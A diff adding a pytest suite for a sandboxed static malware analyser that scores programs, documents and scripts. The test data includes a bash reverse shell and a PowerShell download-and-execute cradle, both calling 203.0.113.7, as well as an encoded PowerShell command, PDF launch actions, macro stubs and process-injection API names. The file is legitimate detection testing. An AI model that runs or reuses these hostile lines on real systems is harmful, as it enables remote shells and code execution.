@@ -1,0 +1,158 @@
+"""The static analyser in its sandbox, on programs, documents and scripts."""
+
+import secrets
+from collections.abc import Awaitable, Callable
+from pathlib import Path
+
+import jsonschema_rs
+import made_files
+import pytest
+
+from samplebank.worker import wire
+from samplebank.worker.contract import Rejected, Result
+from samplebank.worker.sandboxed import SandboxedAnalyser
+
+Analyse = Callable[[bytes], Awaitable[Result]]
+
+BENIGN, SUSPICIOUS, MALICIOUS = range(30), range(30, 70), range(70, 101)
+LS = Path("/bin/ls").read_bytes()
+INJECTION = ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")
+
+
+def traits(result: Result) -> set[str]:
+    return {detection.name for detection in result.detections}
+
+
+async def test_an_unsigned_launcher_is_benign(static: Analyse) -> None:
+    result = await static(made_files.launcher())
+
+    assert result.score in BENIGN
+
+
+async def test_a_program_of_the_system_is_benign(static: Analyse) -> None:
+    result = await static(LS)
+
+    assert result.score in BENIGN
+    assert result.result["elf"]["interpreter"]
+
+
+async def test_the_sections_and_imports_of_a_windows_program_are_told(static: Analyse) -> None:
+    facts = (await static(made_files.launcher())).result["pe"]
+
+    assert facts["sections"][0].keys() == {"name", "size", "virtualSize", "entropy", "rights"}
+    assert "CreateProcessW" in facts["imports"][0]["functions"]
+    assert len(facts["imphash"]) == 32
+    assert (facts["signature"], facts["overlay"]) == (None, None)
+
+
+async def test_the_imports_of_process_injection_are_suspicious(static: Analyse) -> None:
+    result = await static(made_files.importing("kernel32.dll", *INJECTION))
+
+    assert "process-injection" in traits(result)
+    assert ("behaviour", "process-injection") in {(tag.type, tag.value) for tag in result.tags}
+    assert result.score in SUSPICIOUS
+
+
+async def test_a_packed_program_is_suspicious_at_most(static: Analyse) -> None:
+    result = await static(made_files.packed())
+
+    assert traits(result) >= {"packer-section", "high-entropy-code", "writable-code"}
+    assert result.score in SUSPICIOUS
+
+
+async def test_an_overlay_is_measured(static: Analyse) -> None:
+    result = await static(made_files.with_overlay(400_000))
+
+    assert result.result["pe"]["overlay"]["size"] == 400_000
+    assert "large-random-overlay" in traits(result)
+
+
+@pytest.mark.parametrize(
+    ("content", "trait"),
+    [
+        pytest.param(made_files.pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf-javascript", id="script"),
+        pytest.param(made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"), "pdf-launch", id="launch"),
+        pytest.param(made_files.pdf("<< /S /J#61vaScript >>"), "pdf-disguised-names", id="disguise"),
+        pytest.param(made_files.word(word__vbaProject_dot_bin="macro"), "office-macros", id="macros"),
+        pytest.param(
+            made_files.word(word___rels__settings_dot_xml_dot_rels=made_files.RELATIONSHIPS),
+            "office-remote-template",
+            id="template",
+        ),
+        pytest.param(b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
+                     "script-download-and-execute", id="cradle"),
+        pytest.param(b"powershell -nop -enc " + b"QQBB" * 20, "script-encoded-command", id="encoded"),
+        pytest.param(b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", "script-reverse-shell", id="shell"),
+        pytest.param("schtasks /create /tn x".encode("utf-16"), "script-persistence", id="utf-16"),
+    ],
+)  # fmt: skip
+async def test_documents_and_scripts_have_their_traits(static: Analyse, content: bytes, trait: str) -> None:
+    assert trait in traits(await static(content))
+
+
+async def test_a_reverse_shell_is_malicious(static: Analyse) -> None:
+    result = await static(b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n")
+
+    assert result.score in MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(made_files.pdf("<< /Type /Catalog >>"), id="pdf"),
+        pytest.param(made_files.word(), id="word"),
+        pytest.param(b"Dear all,\nthe meeting is on Monday.\n", id="letter"),
+        pytest.param(Path(made_files.__file__).read_bytes(), id="python"),
+    ],
+)
+async def test_harmless_files_have_no_traits(static: Analyse, content: bytes) -> None:
+    result = await static(content)
+
+    assert (result.score, traits(result)) == (0, set())
+
+
+async def test_nothing_is_found_in_noise(static: Analyse) -> None:
+    result = await static(b"\0" + secrets.token_bytes(8000))
+
+    assert result.score == -1
+    assert result.result["entropy"] > 7.9
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(made_files.launcher()[:700], id="pe"),
+        pytest.param(made_files.word()[:90], id="zip"),
+        pytest.param(b"%PDF-", id="pdf"),
+        pytest.param(b"\x7fELF" + bytes(10), id="elf"),
+        pytest.param(b"\xcf\xfa\xed\xfe" + b"\xff" * 60, id="macho"),
+    ],
+)
+async def test_a_broken_file_still_has_a_result(static: Analyse, content: bytes) -> None:
+    result = await static(content)
+
+    assert result.result["size"] == len(content)
+
+
+async def test_an_empty_file_is_rejected(static: Analyse) -> None:
+    with pytest.raises(Rejected, match=r"^The file is empty\.$"):
+        await static(b"")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        pytest.param(made_files.importing("kernel32.dll", *INJECTION), id="pe"),
+        pytest.param(LS, id="elf"),
+        pytest.param(made_files.word(word__vbaProject_dot_bin="macro"), id="word"),
+        pytest.param(b"echo hello\n", id="text"),
+        pytest.param(secrets.token_bytes(100), id="noise"),
+    ],
+)
+async def test_results_keep_their_schema(
+    static: Analyse, static_analyser: SandboxedAnalyser, content: bytes
+) -> None:
+    result = await static(content)
+
+    schema = jsonschema_rs.validator_for(dict(static_analyser.description.schema or {}))
+    assert schema.is_valid(wire.json_value(result.result))
